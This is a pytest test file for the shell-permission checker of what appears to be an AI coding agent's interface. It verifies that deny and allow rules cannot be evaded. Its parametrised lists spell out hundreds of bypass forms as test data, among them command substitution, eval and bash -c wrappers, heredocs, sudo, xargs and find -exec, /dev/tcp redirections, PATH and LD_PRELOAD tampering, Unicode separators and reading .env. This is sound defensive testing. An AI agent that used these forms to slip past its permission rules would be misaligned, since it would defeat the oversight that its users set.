"""What leaves a risk about a command line: everything that Bash may read otherwise, evaluate or expand."""

import shutil
import subprocess
from pathlib import Path

import pytest

from kimi_tui.permission.command_risk import RiskKind
from kimi_tui.permission.policy import Policy
from kimi_tui.permission.rule import Effect, parse_rule
from kimi_tui.permission.subject import Pattern
from kimi_tui.tools.core.permission_subject import command_subject
from kimi_tui.tools.shell_support import builtins
from kimi_tui.tools.shell_support.approval_scope import approval_scope
from kimi_tui.tools.shell_support.command_parser import READABLE_BYTES, parse_command_line
from kimi_tui.tools.shell_support.lexer import read_plain


def kinds(command: str) -> set[RiskKind]:
    return {risk.kind for risk in parse_command_line(command).risks}


@pytest.mark.parametrize("command", [
    "git grep -e x </dev/null -Opython3>&1", "sort </dev/null -oFILE2>&1", "find . 2>/dev/null -delete2>&1",
    "kill 2>&-1", "kill 2>&-a", "ls 2>&-'x'", "ls >&-x", "ls <&-x", "ls 12>&1", "ls {a}>&1", "ls {a}>/dev/null",
    "ls {}>/dev/null", "ls a2>&1 -x3>&1", "ls 2>&1-", "ls 2>&1x", "ls >&1\\\n2", "ls 2>&\u00b2",
    "ls 2>&1-x", "ls <&0-", "ls >&x", "ls &>x", "ls &>>x", "ls >|x", "ls <>x", "ls >>x", "ls 2>x", "ls <<<x", "ls <<x",
    "ls </dev/tcp/a/1", "ls </dev/udp/a/1",
    "ls <(x)", "ls >(x)", "ls > >(x)", "</dev/null ls", "2>&1 ls", ">x", "ls 2\\\n>&1", "ls 2>\\\n&1",
])  # fmt: skip
def test_a_redirection_with_an_odd_descriptor_or_target_is_asked_about(command: str) -> None:
    assert kinds(command)


@pytest.mark.parametrize("command", [
    "ls 2>&1", "ls 2>/dev/null", "ls >/dev/null 2>&1", "ls &>/dev/null", "ls < a", "ls <a 2>&1 | wc", "ls 2>&1|wc",
    "(ls) 2>&1", "{ ls; } 2>/dev/null", "ls >&2", "ls 2>&-", "ls <&-; ls", "ls -x2 2>&1",
    "ls x2>/dev/null",
    "time ls", "time -p ls", "! ls", "ls;", "ls &", "(ls; (ls))", "{ (ls); }", "ls && \\\n  ls", "ls |\nwc", "ls\n\nls",
    "ls a#b", "ls 'a\nb'", 'ls "\\$x"', "ls ]", "ls }", "ls if", "ls a=b", "ls a[1]", "ls ~/x", "echo !",
    "grep -n 'a b' src/*.py", "git log --oneline -5 -- src/", "printf '%s\\n' a", "test -f a && ls",
    "test 1 -eq 2", "[ 1 -eq 2 ]", "[ -f a ] && ls", "[ -n 'a b' ] || ls", "[ a = b ]", "[ ! -d a ]",
    "[ a != \"b\" ];ls",
    "cd a; pwd", "kill -9 12", "wait", "jobs -l", "command -v ls", "type ls", "echo a-b*", "ls café",
])  # fmt: skip
def test_ordinary_lines_leave_no_doubt(command: str) -> None:
    assert kinds(command) == set()


@pytest.mark.parametrize("target", [
    "'$(x)'", "\\$\\(x\\)", '"a\\$(x)"', "'`x`'", "a'$(x)'b", "'.en?'", "'~/x'", "$x", "'a b'",
])  # fmt: skip
def test_the_target_of_a_redirection_that_bash_expands_twice_is_asked_about(target: str) -> None:
    for redirection in (f">&{target}", f">& {target}", f"1>&{target}"):
        assert RiskKind.EVALUATES in kinds(f"ls {redirection}"), redirection
    assert RiskKind.EVALUATES not in kinds("ls >&x/a-b.txt")


def test_bash_expands_that_target_twice(tmp_path: Path) -> None:
    subprocess.run([shutil.which("bash") or "bash", "-c", "echo >&'$(touch ran)'"], cwd=tmp_path, check=False)
    assert (tmp_path / "ran").exists()
    line = command_subject(parse_command_line("echo >&'$(touch ran)'"))
    assert Policy([parse_rule("Shell(touch *)", Effect.DENY)]).decide("Shell", line).effect is Effect.ASK


@pytest.mark.parametrize("command", [
    "printf -v 'a[$(x)]' y", "printf -va x", "printf '%n' a", "printf '%ln' a",
    "test -v 'a[$(x)]'", "[ -v a ]", "test -R a",
    "test 'a[$(x)]' -eq 1", "[ a -lt 1 ]", "jobs -x x", "jobs -lx x", "compgen -W '$(x)'", "compgen -C x", "wait -p a",
    "wait -np a", "fc -s", "history -s x", "let 'a[$(x)]'", "declare -a 'a=($(x))'", "typeset a", "local a",
    "readonly a",
    "export a", "read 'a[$(x)]'", "mapfile -C x a", "readarray a", "unset 'a[$(x)]'", "[[ a -eq b ]]", "[[ -v a ]]",
    "enable -f x y", "bind x", "trap x EXIT", "complete -F x y", "compopt x", "getopts a 'b[$(x)]'", "exec x",
    "command -p x", "builtin eval x", "builtin printf -v a x", "command printf -v a x", "hash -p x y", "alias a=x",
    "unalias a", "set -x", "shopt -s x", "source x", ". x", "eval x", "\\printf -v a x", "'test' -v a", "((a))",
    "echo $((a))", "echo $[a]", "echo 'a[$(x)]'", "ls 'a[`x`]'", "timeout 1 env printf -v a x", "coproc x",
    "function f { x; }", "f() { x; }", "time -f x ls", "time -p -p ls", "time ! ls", "zsh -c ls", "fish -c ls",
])  # fmt: skip
def test_a_builtin_that_evaluates_its_operands_is_asked_about(command: str) -> None:
    assert kinds(command)


PLAIN = frozenset(
    {
        *(":", "bg", "break", "caller", "cd", "continue", "dirs", "disown", "echo", "exit", "false", "fg", "help"),
        *("kill", "logout", "popd", "pushd", "pwd", "return", "shift", "suspend", "times", "true", "type", "ulimit"),
        *("umask",),
    }
)
WRAPPERS = frozenset({"builtin", "command", "eval"})


def test_every_builtin_of_bash_is_known_to_be_plain_or_is_asked_about() -> None:
    ran = subprocess.run(
        [shutil.which("bash") or "bash", "-c", "compgen -b"], capture_output=True, text=True, check=True
    )
    known = PLAIN | WRAPPERS | builtins.CHECKED.keys()
    assert not known & (builtins.CHANGE_THE_SHELL | builtins.EVALUATE)
    assert set(ran.stdout.split()) <= known | builtins.CHANGE_THE_SHELL | builtins.EVALUATE


@pytest.mark.parametrize("command", [
    "git log -*", "find . -[d]elete", "find . -?elete", "ls '-'*", 'ls "-"?', "ls \\-*", "ls --out*", "ls *", "ls ''*",
    'ls ""[-]x', "ls ?x", "ls [a-]x", "ls ''{-a,b}", "ls -$x", "ls -x=a*",
])  # fmt: skip
def test_a_pattern_that_may_become_an_option_is_asked_about(command: str) -> None:
    assert kinds(command)


@pytest.mark.parametrize("command", ["l*", "./x*", "timeout 5* ls", "nice -n 5? ls", "env l*", "find . -exec l* ;"])
def test_a_pattern_in_the_place_of_a_program_is_asked_about(command: str) -> None:
    assert kinds(command)


def test_a_long_line_is_read_but_no_rule_allows_it() -> None:
    read = parse_command_line("cat " + "a " * (READABLE_BYTES // 2) + "&& cat .env")
    assert {risk.kind for risk in read.risks} == {RiskKind.LONG}
    assert (read.commands[-1].words, read.unread) == (("cat", ".env"), False)


def test_a_word_with_a_pattern_is_told_from_one_in_quotes() -> None:
    (command,) = parse_command_line("ls a* 'a*' a\\* \"a*\" b").commands
    assert command.words == ("ls", "a*", "a*", "a*", "a*", "b")
    assert [isinstance(word, Pattern) for word in command.words] == [False, True, False, False, False, False]


@pytest.mark.parametrize("text", [
    "ls $x", "ls `x`", "x=1 ls", "a[1]=x ls", "if ls", "case", "[[ a ]]", "ls (", "ls )", "(ls", "{ ls", "{ ls }",
    "ls 'a",
    "ls ; ; ls", "ls ;; ls", "ls && ", "| ls", "ls # a", "# a", "((a))", "( )", "{ }", "(ls) a", "ls 12>&1",
    "ls a\\\nb",
    "ls <<a", "ls <<<a", "ls <(a)", "ls 1>&-2", "ls {a}>x", "time if ls", "time -x ls", "time 'x' ls", "ls \\", "ls\r",
    "é=1 ls", "ls 你\\;rm", 'ls "你\\";rm"', "coproc ls", "ls() { x; }", "function ls", "! | ls", ">x ls",
])  # fmt: skip
def test_what_is_not_plain_is_not_read(text: str) -> None:
    assert read_plain(text) is None


@pytest.mark.parametrize("command", [
    "cat a;rm x", "cat a&rm x", "cat a|rm x", "cat a||rm x", "cat a&&rm x", "cat a |& rm x", "cat a; ; rm",
    "cat <(rm x)", "cat >(rm x)", "cat $(rm x)", "cat `rm x`", 'cat "`rm x`"', 'cat "$(rm x)"', "cat ${x:-$(rm x)}",
    "cat $((x[$(rm x)]))", "cat $[ x[$(rm x)] ]", "cat ${x[$(rm x)]}", "cat ${x@P}", "cat ${!x}",
    "cat $'a' ; $'rm' x", 'cat $"a"', "cat <<<$(rm x)", "cat 2>&-rm", "cat </dev/null -x2>&1",
    "{cat,x}", "c{at,x}", "cat *", "cat -*", 'cat "-"*', "cat \\-*", "cat ''*", "cat -?", "cat [-]x", "cat $x",
    "cat $1", "cat $@", "cat ~$x", "cat a >x", "cat a >>x", "cat a >|x", "cat a &>x", "cat a >&x", "cat a <>x",
    "cat a 1>x", "cat a 2>x", "cat a >/dev/tcp/1.2.3.4/80", "cat </dev/tcp/1.2.3.4/80", "cat < /dev/udp/h/1",
    "printf -v a x", "printf -vPATH x", "printf -v 'a[$(rm x)]' x", "printf '%n' 'a[$(rm x)]'", "test -v 'a[$(rm)]'",
    "test ! -v a", "test a -o -v b", "test '(' -v a ')'", "test 'a' -eq 1", "command printf -v PATH x",
    "builtin printf -v PATH x", "builtin source x", "builtin . x", "command . x", "command eval x",
    "command -p cat x", "command exec cat", "builtin command eval rm", "builtin builtin eval rm", "time rm x",
    "time -p rm x", "! rm x", "rm x", 'cat \\', "; rm x", 'cat a\\', ";rm", "cat a # x", "cat 'a", "b' ; rm x",
    'cat "a', '$(rm)"', "if cat a; then rm x; fi", "cat() { rm x; }; cat a", "function cat { rm; }; cat",
    "cat () ( rm )", "alias cat=rm; cat", "PATH=. cat a", "IFS=x cat a", "LD_PRELOAD=./x cat a",
    "export PATH=.; cat a", "cat=rm; cat a", "env -S 'rm x'", "env -S'rm x'", "timeout 5 rm x",
    "timeout -s KILL 5 rm x", "timeout 5* cat", "timeout --signal=9 5 rm", "nice -n 5 rm x", "nice -5 rm x",
    "nice rm", "nice -n5 rm", "nohup rm x", "stdbuf -o0 rm", "setsid rm", "ionice -c 3 rm", "xargs rm",
    "cat a | xargs cat", "cat a | bash", "cat a | sh -", "cat a | bash -s", "bash", "bash -i", "bash x.sh",
    "bash -c 'rm x'", 'bash -c "cat a" rm', "bash -O extglob -c rm", "bash --rcfile x -ic cat", "bash -c 'cat a' --",
    'sh -c "cat a;rm x"', "sh -ic cat", "zsh -c 'cat a'", "fish -c 'cat (rm x)'", "eval cat a", "exec cat a",
    "coproc cat a", ". ./x", "source x", "trap 'rm x' EXIT; cat a", "trap rm DEBUG", "set -x; cat",
    "shopt -s extglob; cat a", "cat @(a|b)", "cat !(a)", "cat +(a)", "[[ -f a ]]", "[[ a =~ $(rm) ]]", "((x=1))",
    "let x=1", "for i in a; do cat $i; done", "while cat a; do rm; done", "case a in a) rm;; esac",
    "select i in a; do rm; done", "until cat; do rm; done", "cat a & %1", "cat a; fg", "jobs -x rm", "jobs -lx rm x",
    "wait -p 'a[$(rm)]' ", "wait 'a[$(rm)]'", "kill 'a[$(rm)]'", "find . -exec rm {} ;", "find . -exec rm {} \\;",
    "find . -exec rm {} +", "find . -ok rm ;", "find . -execdir rm ;", "find . -delete", "find . -fprint x",
    "find . -fls x", "find . -f*", "find . '-delete'", "find . -delet''e", 'find . "-de"lete',
    "find . -'exec' rm ';'", "find . -[d]elete", "find . {-delete,}", "find -D exec -delete", "l*", "./*", "git *",
    "cat a\uff1brm x", "cat \u200ba", "cat a\u202eb", "cat 'a'\"b\"\\c$d", "cat a)", "(cat a", "{ cat a",
    "cat a }; rm", "cat a; }", "{ cat a; rm x; }", "(cat a; rm)", "( (cat a); rm )", "((cat a); rm)", "!rm x",
    "! ! rm", "{rm x;}", "{ rm; }", "cat <<E", "$(rm x)", "cat <<'E' ; rm", "cat <<-E", "cat<<<a;rm", 'cat "$(<x)"',
    "cat $(<x)", "cat a 9>x", "cat 10>x", "cat {fd}>x", "cat a >&3x", "cat >& x", "cat 0<&1-", "cat <&1-rm",
    'cat >\\', "cat a>/dev/null x>y", "cat >/dev/null\\ x", "cat >/dev/null*", "cat >/dev/./null",
    "cat </dev/null>x", "true && rm", "true;rm", "type -a rm; rm", "history -s rm; fc -s", "compgen -C rm",
    "mapfile -C rm a", "hash -p ./x cat; cat", "enable -n cat", "enable -f ./x y", "complete -C rm x",
    "bind -x '\"a\":rm'", "read x", "readonly PATH=.", "typeset -n a=b", "declare x=$(rm)", "local x=`rm`",
    "unset -f cat", "getopts a 'b[$(rm)]'", "ulimit -c 1; rm", "pushd x; rm", "cd a; ./cat", "./cat a", "/tmp/cat a",
    "~/cat a", "../git log", "'cat' a;'rm' x", "c\\at a;r\\m x", "cat a$'\\n'rm", "cat a\nrm x", "cat \\\n; rm x",
    "cat a # x\nrm", "cat 'a\nb' ; rm x", 'cat "a\n$(rm)"', "cat a\u00a0rm x;rm", "cat <<E\n$(rm x)\nE",
    "cat <<'E' ; rm\nx\nE", "cat <<-E\n\tx\n\tE\nrm", "cat a\r\nrm", "cat a\vrm;rm", "cat a\fb\nrm",
    "echo a | cat - &\nrm", "cat a\\\n\\\n;rm", "cat 'a'\\''b;rm\nrm", "cat </dev/tcp/h/1", "sudo cat a",
    "env --split-string='cat a'", "nice --x=y cat", "timeout --x=1 5 cat", "xargs -a x cat", "command -pv cat",
    "cat \\\n# a\nrm", "cat \\\n</dev/null -x2>&1", "cat a\\\n2>&1", "git log -*", "git log --[o]utput=x",
    "grep -[f]x y", "grep x -?", "find . -*", "git grep a </dev/null -Opython3>&1", "find . 2>/dev/null -delete2>&1",
])  # fmt: skip
def test_rules_for_programs_that_read_allow_nothing_else(command: str) -> None:
    rules = [parse_rule(f"Shell({program} *)", Effect.ALLOW) for program in ("git", "cat", "grep", "find")]
    assert Policy(rules).decide("Shell", command_subject(parse_command_line(command))).effect is None


@pytest.mark.parametrize("command", [
    "git push", "\\git push", '"git" push', "g''it push", "/usr/bin/git push", "git --no-pager push",
    "git -c a=b push", "git -C a -c b=c push", "{ git push; }", "(git push)", "! git push", "time git push",
    "time -p git push", "coproc git push", "if true; then git push; fi", "while git push; do :; done",
    "for x in 1; do git push; done", "case a in a) git push;; esac", "f() { git push; }; f", "echo $(git push)",
    "echo `git push`", 'echo "$(git push)"', "echo ${x:-$(git push)}", "echo $((1+$(git push)))", "cat <(git push)",
    "cat >(git push)", "x=$(git push)", "x=$(git push) ls", "export x=$(git push)", "declare x=$(git push)",
    "a=(1 $(git push))", "[[ -n $(git push) ]]", '[ -n "$(git push)" ]', "(( $(git push) ))", "let x=$(git push)",
    "echo a > $(git push)", "echo 2>&$(git push)", "cat <<< $(git push)", "cat <<E\n$(git push)\nE",
    "cat <<E\n${x:-$(git push)}\nE", "cat <<E\n`git push`\nE", "eval git push", "eval 'git push'",
    'eval "git ""push"', 'bash -c "git push"', "sh -c 'ls; git push'", "bash <<< 'git push'",
    "bash <<E\ngit push\nE", "echo git push | bash", "timeout 5 git push", "nice -n 1 git push", "env A=1 git push",
    "A=1 git push", "A=1 B=2 git push", "sudo git push", "sudo -u x git push", "sudo A=1 git push",
    "nohup git push &", "xargs git push", "echo push | xargs git", "find . -exec git push \\;", "command git push",
    "builtin command git push", "exec git push", "exec -a x git push", 'trap "git push" EXIT',
    'alias x="git push"; x', "$g push", "g${x}it push", "git pu${x}sh", "git $x", "git {push,a}", "{git,push}",
    "gi? push", "git pus?", "git p*", "git \\\npush", "gi\\\nt push", "ls\ngit push", "ls # x\ngit push",
    "ls;git push", "ls&&git push", "ls||git push", "ls&git push", "ls|git push", "ls|&git push", "ssh h git push",
    "watch git push", "setsid git push", "stdbuf -o0 git push", "strace git push", "parallel git push",
    'script -c "git push"', 'su -c "git push"', "flock x git push", ". x", "source x", "git </dev/null push",
    "git 2>&1 push", "git >x push", ">x git push", "2>&1 git push", "git <<<x push", "git <<E push\nE",
    "git push 2>&-x", "git $'push'", 'git $"push"', 'git "pu"sh', "git pu'sh'", "select x in a; do git push; done",
    "until git push; do :; done", "((1)) && git push", "[[ a ]] && git push", "function f { git push; }; f",
    "time { git push; }", "! (git push)", "ls $(ls $(ls $(git push)))", 'ls "`ls \\`git push\\``"',
    "zsh -c 'git push'", "fish -c 'git push'", "busybox sh -c 'git push'", "env -S 'git push'",
    "env --split-string='git push'", "sudo -s git push", "sudo -i git push", "doas git push", "ionice -c3 git push",
    "chroot / git push", "unshare git push", "systemd-run git push", "at now <<< 'git push'",
    "env bash -c 'git push'", "timeout 5 bash -c 'git push'", "find . -execdir git push +", "find . -ok git push ;",
    "xargs -I{} git push {}", "xargs sh -c 'git push'", "python3 -c 'x' && git push", "mapfile -C 'git push' -c 1 x",
    "jobs -x git push", "compgen -C 'git push'", "complete -C 'git push' x", "bind -x '\"a\":git push'", "fc -s",
    "history -s git push", "enable -f x y", "hash -p x git; git", "PATH=x ls", "BASH_ENV=x bash y.sh", "git push\r",
    "ls \\\n&& git push", "ls ; ; git push", "ls;;git push", "git\tpush", "git\u00a0push", "ls <x\n\\git push",
    "ls >x\n'git' push", "ls a\\\nb\ngit push", "a=1\ngit push", "a=b;git push", "a+=b git push", "a[0]=b git push",
    "a[$(git push)]=b", "echo ${a[$(git push)]}", "echo ${a:$(git push)}", "echo ${a/$(git push)/x}",
    "echo ${!a} ; x='git push'; ${x}", "x=git; y=push; $x $y", "echo ~$(git push)", "ls {a,$(git push)}",
    "ls {1..$(git push)}", "ls [$(git push)]",
])  # fmt: skip
def test_a_denied_command_is_refused_or_asked_about_however_it_is_written(command: str) -> None:
    rules = [parse_rule("Shell(git push *)", Effect.DENY), parse_rule("Shell", Effect.ALLOW)]
    decided = Policy(rules).decide("Shell", command_subject(parse_command_line(command))).effect
    assert decided in (Effect.DENY, Effect.ASK)


@pytest.mark.parametrize(("approved", "other"), [
    ("python3 - < a.py", "python3 - < b.py"), ("python3 < a.py", "cat b.py | python3"),
    ("cat a.py | python3 -", "cat b.py | python3 -"), ("python3 -", "echo 'import os' | python3 -"),
    ("cat a|&perl", "cat b|&perl"), ("sqlite3 db < a.sql", "sqlite3 db <b.sql"),
])  # fmt: skip
def test_a_yes_for_a_program_with_input_covers_no_other_input(approved: str, other: str) -> None:
    granted: set[str] = {"run command: cat", "run command: echo"}
    for line in (approved, "cat x"):
        scope = approval_scope(parse_command_line(line), line)
        assert scope is not None
        granted.update(scope.keys)
    wanted = approval_scope(parse_command_line(other), other)
    assert wanted is not None
    assert not wanted.covered_by(granted)


def test_a_yes_for_harmless_programs_in_a_pipe_covers_each_of_them() -> None:
    for line in ("pytest -q | tail -5", "pytest -q 2>&1 | tail -5 || echo no"):
        scope = approval_scope(parse_command_line(line), line)
        assert scope is not None
        assert "run command: tail" in scope.keys
